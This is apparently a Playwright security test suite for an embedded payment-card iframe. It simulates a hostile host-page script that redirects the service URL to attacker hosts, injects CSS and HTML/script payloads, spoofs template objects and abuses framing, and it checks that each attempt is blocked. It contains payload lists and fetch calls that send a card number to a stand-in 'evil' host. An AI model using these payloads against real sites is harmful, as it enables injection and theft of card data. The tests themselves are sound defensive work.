import { protocolVersion } from '../../../src/element/frame/protocol.js';
import { expect, type Page } from '@playwright/test';
import { attack, number, sendAsPage, stay } from './attack.js';
import type { PayCheckout, PayError } from '../../../src/entries/index.js';
import { drawn } from '../press.js';
import type { Loot } from './spy.js';
import { script } from './world.js';

/** A script in the page that sets what a page may set, to what it should not be. */
const attacker = 'A script in the page';

const markup = `<img src=x onerror="window.ran=1"><script>window.ran=1</script><b id=bold>x</b>`;

/** Records the address of each request of a page and its frames. */
function watchRequests(page: Page): string[] {
  const urls: string[] = [];
  page.on('request', (request) => urls.push(request.url()));
  return urls;
}

export function pageSets(): void {
  attack(
    attacker,
    'points `base-url` at a hostile server: with the service as a user name, another port, a trailing dot, in capitals, as a longer name',
    'the form is not offered, and the frame’s policy forbids the request too; the service’s own name in capitals is the service',
    0,
    async ({ page, open, tried, evil, base, port, card, reaches, requests }) => {
      const service = new URL(base);
      const others = [
        `${evil}/v1`,
        `http://127.0.0.1:${service.port}@evil.localhost:${port}/v1`,
        `http://127.0.0.1:${port}/v1`,
        `http://127.0.0.1.:${port}/v1`,
        `http://127.0.0.2:${service.port}/v1`,
        `http://localhost.:${service.port}/v1`,
        `http://127.0.0.1.evil.localhost:${port}/v1`,
        `http://evil.localhost:${port}/127.0.0.1:${service.port}/v1`,
        `HTTP://EVIL.LOCALHOST:${port}/v1`,
        `//evil.localhost:${port}/v1`,
        `http:\\\\evil.localhost:${port}\\v1`,
        `https://127.0.0.1:${service.port}/v1`,
        `http://[::1]:${service.port}/v1`,
        `http://127.0.0.1:${service.port}/v1?to=${evil}`,
        `data:application/json,{}`,
        `blob:${evil}/1`,
      ];
      await open('', { before: stay });
      await reaches('ready');
      await card.fill();
      const set = (url: string) => card.element.evaluate((it, url) => it.setAttribute('base-url', url), url);
      for (const url of others) {
        await set(url);
        await reaches('misconfigured');
        await expect(card.button).toBeHidden();
        const code = await card.element.evaluate((it: PayCheckout) =>
          it.submit().catch((error: PayError) => error.code),
        );
        expect(code).toBe('configuration');
        // Whatever the form thinks of it: what its document sends there does not leave.
        const sent = await card.inside.evaluate(
          (_element, { url, number }) =>
            fetch(url, { method: 'POST', mode: 'no-cors', body: number }).then(
              () => 'sent',
              () => 'stopped',
            ),
          { url, number },
        );
        if (!url.includes('?') && !url.startsWith('data:')) expect(sent).toBe('stopped');
        tried(url);
        await set(base);
        await reaches('ready');
      }
      // The attacker's server does receive what may be sent to it, and the frame may talk to the service.
      expect(requests.filter(({ method }) => method !== 'GET')).toEqual([]);
      await page.evaluate(
        (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'hello' }),
        `${evil}/log`,
      );
      expect(requests.filter(({ method }) => method === 'POST').map(({ url }) => url)).toEqual(['/log']);
      await set(base.replace('http://127.0.0.1', 'HTTP://LOCALHOST'));
      await reaches('ready');
      const status = await card.inside.evaluate(
        (_e, url) => fetch(url).then((answer) => answer.status),
        base + '/payments',
      );
      expect(status).toBe(401);
    },
  );

  attack(
    attacker,
    'gives `--pay-*` values that fetch, end a rule or refer elsewhere, and are 100,000 letters long; `color-scheme`, `lang`, `dir` and the root’s size likewise',
    'the frame takes only plain colours, lengths and fonts, and fetches no file',
    1,
    async ({ page, card, open, tried, evil, requests, reaches, port }) => {
      await open('style="--pay-accent: rgb(1, 2, 3)"', { before: stay });
      await expect(card.button).toHaveCSS('background-color', 'rgb(1, 2, 3)');
      await card.fill();
      const urls = watchRequests(page);
      const values = [
        `url(${evil}/look.png)`,
        `URL("${evil}/look.png")`,
        `u\\72l(${evil}/look.png)`,
        `image-set("${evil}/look.png" 1x)`,
        `src("${evil}/look.png")`,
        `red;} body{background:url(${evil}/look.png)} .x{`,
        `red;background:url(${evil}/look.png)`,
        'var(--x)',
        'var(--pay-accent, url(x))',
        'env(safe-area-inset-top)',
        'attr(value)',
        'expression(alert(1))',
        '</style><script>window.ran=1</script>',
        `"a", "${'x'.repeat(100_000)}"`,
        'r'.repeat(100_000),
        `/**/url(${evil}/look.png)`,
      ];
      const all =
        'accent on-accent text muted surface border danger success radius spacing font font-size evil'
          .split(' ')
          .map((name) => `--pay-${name}`);
      const look = { type: 'appearance', lang: 'en', dir: '', colorScheme: '', rem: 16, messages: null };
      for (const value of values) {
        // What is as long as a book is set where it would be looked at: as a colour, and as a font.
        const names = value.length < 1_000 ? all : ['--pay-accent', '--pay-font'];
        // As a page sets it, and past all that a page's own style would do to it.
        await card.element.evaluate(
          ({ style }, { names, value }) => names.forEach((name) => style.setProperty(name, value)),
          { names, value },
        );
        // The page tells the frame its own look with the next frame that it draws.
        await drawn(page);
        await sendAsPage(page, {
          ...look,
          lang: value,
          dir: value,
          colorScheme: value,
          values: Object.fromEntries(
            [...names, 'background', 'background-image', '__proto__'].map((name) => [name, value]),
          ),
        });
        await expect(card.button).not.toHaveCSS('background-color', 'rgb(1, 2, 3)');
        await sendAsPage(page, { ...look, values: { '--pay-accent': 'rgb(1, 2, 3)' } });
        await expect(card.button).toHaveCSS('background-color', 'rgb(1, 2, 3)');
        const set = await card.inside.evaluate((element) => element.style.cssText);
        expect(set).toBe('--pay-accent: rgb(1, 2, 3);');
        tried(value);
      }
      for (const rem of [0, -1, 1e9, NaN, Infinity]) {
        await sendAsPage(page, { ...look, rem, values: {} });
        tried(`rem ${rem}`);
      }
      await sendAsPage(page, { ...look, values: {} });
      for (const dir of [markup, 'rtl" onfocus="ran=1', 'up']) {
        await page.evaluate((dir) => Object.assign(document.documentElement, { lang: dir, dir }), dir);
        await drawn(page);
        await sendAsPage(page, { ...look, lang: dir, dir, values: { '--pay-accent': 'rgb(3, 2, 1)' } });
        await expect(card.button).toHaveCSS('background-color', 'rgb(3, 2, 1)');
        await sendAsPage(page, { ...look, values: {} });
        tried(dir);
      }
      for (const lang of [
        '../../evil',
        `//evil.localhost:${port}/x`,
        'en/../de',
        'de\u0000',
        '__proto__',
        'constructor',
      ]) {
        await sendAsPage(page, { ...look, lang, values: {} });
        tried(lang);
      }
      await sendAsPage(page, { ...look, values: { '--pay-accent': 'rgb(9, 9, 9)' } });
      await expect(card.button).toHaveCSS('background-color', 'rgb(9, 9, 9)');
      expect(requests.filter(({ host }) => host.startsWith('evil.'))).toEqual([]);
      expect(urls.filter((url) => !/\/languages\/[\w-]+\.js$/.test(url))).toEqual([]);
      expect(await card.inside.evaluate(() => 'ran' in window)).toBe(false);
      await card.button.click();
      await reaches('paid');
    },
  );

  attack(
    attacker,
    'sends every security code and many card numbers as `metadata` and in `splits`, and looks which of them the payment’s answer has lost',
    'all come back as they were sent, so the right ones look like the others',
    1,
    async ({ card, open, tried, reaches, loot }) => {
      await open('', { before: stay });
      await reaches('ready');
      await card.fill();
      // Written as the service would write them in words: what the page itself has set must not count as seen.
      const codes = Array.from({ length: 1_000 }, (_, guess) => `is it ${String(guess).padStart(3, '0')}?`);
      const numbers = [number, '4111114005765431', '4111114005765432'].map((guess) =>
        guess.replace(/(.{4})(?=.)/g, '$1.'),
      );
      // 40 to a value: the service takes 30 keys, and 500 characters to a value.
      const rows = Array.from({ length: 25 }, (_, row) => codes.slice(40 * row, 40 * (row + 1)).join(' '));
      const metadata = Object.fromEntries([...rows, ...numbers].map((guess, index) => [`k${index}`, guess]));
      const splits = [...codes.slice(985, 990), ...numbers].map((reference) => ({
        amount: 100,
        recipient_id: '22222222-2222-4222-8222-222222222222',
        reference,
      }));
      await card.element.evaluate((it, values) => void Object.assign(it, values), { metadata, splits });
      await card.button.click();
      await reaches('paid');
      const outcomeEvent = (await loot('events')).find(({ type }) => type === 'outcome');
      const { payment } = (outcomeEvent?.detail as { outcome: { payment: Record<string, unknown> } }).outcome;
      expect(payment['metadata']).toEqual(metadata);
      tried('metadata');
      expect(payment['splits']).toMatchObject(splits);
      tried('splits');
    },
  );

  attack(
    attacker,
    'puts markup into `messages`, and the pieces of a template, which a template library could take for its own',
    'markup is shown as text, and what is no text is not shown',
    1,
    async ({ page, card, open, tried, reaches }) => {
      await open('', { before: stay });
      await card.fill();
      await card.element.evaluate((element, markup) => {
        const messages = {
          pay: () => markup,
          testMode: markup,
          cvcHint: () => markup,
          labels: { number: markup, cvc: 'Code' },
          form: markup,
        };
        Object.assign(element, { messages });
      }, markup);
      const label = card.inside.locator('label[for="number"]');
      await expect(label).toHaveText(markup);
      expect(await card.inside.locator('img, b, script').count()).toBe(0);
      tried('markup');
      await page.evaluate((markup) => {
        // An array keeps properties of its own on the way, and so could pass for the strings of a template.
        const strings = Object.assign([markup], { raw: [markup] });
        const template = { _$litType$: 1, strings, values: [] };
        const labels = { number: template, expiry: [template], cvc: 'Other', name: { toString: markup } };
        const look = { type: 'appearance', lang: 'en', dir: '', colorScheme: '', rem: 16, values: {} };
        (window as never as Loot).ports.at(-1)?.postMessage({
          ...look,
          messages: {
            labels,
            testMode: template,
            pay: template,
            cvcHint: { samples: [template, template] },
            form: template,
          },
        });
      }, markup);
      // The one that is a text is taken.
      await expect(card.inside.locator('label[for="cvc"]')).toContainText('Other');
      await expect(label).not.toContainText('<img');
      expect(await card.inside.locator('img, b, script').count()).toBe(0);
      tried('the pieces of a template');
      expect(await card.inside.evaluate(() => 'ran' in window)).toBe(false);
      // Where nothing stands in the way, the same markup does run.
      await page.evaluate((markup) => (document.body.innerHTML += markup), markup);
      await expect.poll(() => page.evaluate(() => (window as never as Loot).ran)).toBe(1);
      await page.evaluate(() => document.querySelector('#bold')?.remove());
      await card.fill();
      await card.button.click();
      await reaches('paid');
    },
  );

  attack(
    attacker,
    'puts `pay-frame.html` into a page of another origin, alone, two levels deep, and in `sandbox` frames; opens the file as a page',
    'no form anywhere: the header keeps it out, and without the header the frame serves no such page',
    0,
    async ({ page, frame, bareFrame, evil, site, put, tried }) => {
      const greet = script((version) => {
        const received: string[] = [];
        Object.assign(window, { received });
        addEventListener('load', () => {
          for (const frame of document.querySelectorAll('iframe')) {
            const { port1, port2 } = new MessageChannel();
            port1.onmessage = ({ data }) => received.push(`${data.type} ${data.reason ?? ''}`);
            const settings = {
              publishableKey: 'pk_test_sandbox',
              clientSecret: 'pi_secret_x',
              baseUrl: new URL(frame.dataset['base'] ?? 'x:').href,
            };
            port1.postMessage({
              type: 'configure',
              settings,
              disabled: false,
              documentBaseUrl: location.href,
              documentUrl: location.href,
              handle: '1',
            });
            frame.contentWindow?.postMessage({ type: 'pay-checkout:greeting', version }, '*', [port2]);
          }
        });
      }, protocolVersion);
      const framed = (src: string, more = '') =>
        put(`${greet}<iframe src="${src}" data-base="http://127.0.0.1:1/v1" ${more}></iframe>`);
      const receivedIn = (url: string) =>
        page
          .frames()
          .find((one) => one.url() === url)
          ?.evaluate(() => (window as never as { received: string[] }).received);
      // The inputs of a form that nobody has taken over have no name.
      const forms = async () => {
        const found = await Promise.all(
          page
            .frames()
            .filter(({ url }) => url)
            .map((one) => one.locator('input[name]').count()),
        );
        return found.reduce((sum, count) => sum + count, 0);
      };

      // From the shop's own page, the same greeting is answered, and a form is shown.
      const right = framed(bareFrame);
      await page.goto(site + right);
      await expect.poll(() => receivedIn(site + right)).toContain('hello ');
      for (const [name, where, src, more, answer] of [
        ['the header', evil, frame, '', []],
        ['another origin', evil, bareFrame, '', ['refused']],
        ['sandbox=""', evil, bareFrame, 'sandbox=""', []],
        ['sandbox with scripts', evil, bareFrame, 'sandbox="allow-scripts"', ['refused']],
      ] as const) {
        const url = where + framed(src, more);
        await page.goto(url);
        await expect
          .poll(async () => (await receivedIn(url))?.map((line) => line.split(' ')[0]))
          .toEqual(answer);
        expect(await forms()).toBe(0);
        tried(name);
      }
      // Two levels: the attacker's page around the shop's page around the frame, and the other way round.
      const shop = framed(frame);
      await page.goto(evil + put(`<iframe src="${site}${shop}"></iframe>`));
      await expect(page.frameLocator('iframe').locator('iframe')).toBeAttached();
      expect(await forms()).toBe(0);
      expect(await receivedIn(site + shop)).toEqual([]);
      tried('the shop in a frame of the attacker');
      const inner = framed(bareFrame);
      await page.goto(site + put(`<iframe src="${evil}${inner}"></iframe>`));
      await expect.poll(async () => (await receivedIn(evil + inner))?.join()).toMatch(/^refused/);
      expect(await forms()).toBe(0);
      tried('the attacker in a frame of the shop');
      for (const url of [frame, bareFrame]) {
        await page.goto(url);
        await expect(page.locator('body')).toContainText('inside the shop’s page only');
        await page.evaluate((version) => {
          const { port2 } = new MessageChannel();
          window.postMessage({ type: 'pay-checkout:greeting', version }, '*', [port2]);
        }, protocolVersion);
        expect(await forms()).toBe(0);
        tried('as a page');
      }
    },
  );
}
